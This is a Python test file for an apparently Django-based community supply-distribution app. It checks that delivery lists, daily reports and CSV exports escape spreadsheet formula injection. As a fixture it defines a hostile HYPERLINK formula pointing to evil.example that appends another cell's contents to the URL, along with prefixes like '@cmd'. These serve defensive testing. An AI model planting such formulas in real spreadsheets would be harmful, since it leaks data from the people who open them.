"""Every workbook and CSV that leaves the system escapes text a spreadsheet would run as a formula.

The delivery list and the daily report once wrote a distribution's name as it was typed, so
``=HYPERLINK("http://…"&A3)`` became a live formula on the secretary's machine.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from fangzhou.lib.sheetwrite import SheetWriter, csv_text, safe_cell
from fangzhou.registry.tests.factories import World
from fangzhou.reports.exports import report_xlsx
from fangzhou.reports.selectors import daily_report
from fangzhou.supplies import services as supplies
from fangzhou.supplies.exports import delivery_list_xlsx
from fangzhou.supplies.selectors import building_deliveries

EVIL = '=HYPERLINK("http://evil.example/?"&A3,"点这里")'


def _cells(content: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(content: bytes, *, expect: str) -> None:
    cells = _cells(content)
    assert not [c for c in cells if c.data_type == "f"], "a cell is a live formula"  # type: ignore[attr-defined]
    texts = [c.value for c in cells if isinstance(c.value, str)]  # type: ignore[attr-defined]
    assert any(t.startswith("'=") and expect in t for t in texts), texts


@pytest.mark.parametrize("text", ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx"])
def test_text_that_would_run_is_escaped(text: str) -> None:
    assert safe_cell(text) == "'" + text
    book = SheetWriter("t")
    book.row([text, 5, -5, None])
    cells = _cells(book.to_bytes())
    value = cells[0].value  # type: ignore[attr-defined]
    assert value.startswith("'") and value[2:] == text[1:] and cells[0].data_type != "f"  # type: ignore[attr-defined]
    assert cells[1].value == 5 and cells[2].value == -5  # numbers stay numbers  # type: ignore[attr-defined]


def test_plain_text_is_untouched_and_csv_escapes_too() -> None:
    assert safe_cell("张三 1-102") == "张三 1-102"
    rows = list(csv.reader(io.StringIO(csv_text([["a", "=2*3"], [1, "ok"]]))))
    assert rows == [["a", "'=2*3"], ["1", "ok"]]


@pytest.mark.django_db
def test_delivery_list_and_daily_report_escape_a_typed_name(world: World) -> None:
    distribution = supplies.distribution_create(
        community=world.community,
        name=EVIL,
        kind="government",
        on=timezone.localdate(),
        package={"大米": 1},
        scaling="per_household",
        actor=world.secretary,
    )
    supplies.distribution_allocate(distribution=distribution, actor=world.secretary)
    deliveries = building_deliveries(distribution, world.b3)
    content = delivery_list_xlsx(distribution=distribution, building=world.b3, deliveries=deliveries)
    _assert_no_formula(content, expect="HYPERLINK")

    report = daily_report(world.secretary, world.community, timezone.localdate() + dt.timedelta(days=0))
    _assert_no_formula(report_xlsx(report), expect="HYPERLINK")
